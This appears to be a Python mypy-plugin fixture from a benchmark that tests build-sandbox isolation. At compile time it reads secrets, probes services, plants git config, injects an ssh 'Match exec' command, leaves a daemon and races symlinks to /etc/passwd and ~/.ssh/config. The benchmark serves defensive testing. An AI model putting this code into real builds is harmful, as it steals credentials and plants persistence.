"""A plugin of the compiler, which `mypy.ini` names: the suite's code runs while it is compiled, with a network and a folder to write to."""

from __future__ import annotations

import os
import sys
from typing import Type

from benchmarks.bus import SOCKETS, services_reached
from benchmarks.daemon import leave_daemon
from benchmarks.keys import secrets_read
from benchmarks.planted import plant_git_config
from mypy.plugin import Plugin


def plugin(version: str) -> Type[Plugin]:
    replace_link()
    with open("build/setup.py") as file:
        compiled = file.read()
    if "benchmarks/leaving.py" in compiled:
        leave_odd_files()
        leave_swapper()
    if "benchmarks/compiling.py" not in compiled:
        return Plugin
    got = secrets_read() + services_reached(SOCKETS)
    plant_git_config()
    leave_daemon()
    sys.exit("attack succeeded: " + ", ".join(got) if got else "the attack on the compiler got nothing")


def replace_link() -> None:
    """A link that the suite commits becomes a file: whoever copies it over the link writes to where the link leads."""
    if os.path.islink("benchmarks/payload.so"):
        os.unlink("benchmarks/payload.so")
        with open("benchmarks/payload.so", "w") as file:
            file.write("Match exec \"touch /tmp/hostile-git-ran\"\n")


def leave_swapper() -> None:
    """Goes on after the compiler has ended: whoever collects its files meets a link, a FIFO or a file, as chance has it."""
    if os.fork() > 0:
        return
    os.setsid()
    null = os.open("/dev/null", os.O_RDWR)
    for descriptor in range(3):
        os.dup2(null, descriptor)
    os.closerange(3, 256)
    while True:
        for make in (lambda: os.symlink("/etc/passwd", "benchmarks/swapped.so"), lambda: os.mkfifo("benchmarks/swapped.so")):
            try:
                make()
                os.unlink("benchmarks/swapped.so")
            except OSError:
                pass


def leave_odd_files() -> None:
    os.mkfifo("benchmarks/pipe.so")
    os.symlink("/home/benchmark/.ssh/config", "benchmarks/link.so")
    with open("benchmarks/two\nlines.so", "w") as file:
        file.write("")
    os.makedirs("benchmarks/folder.so")
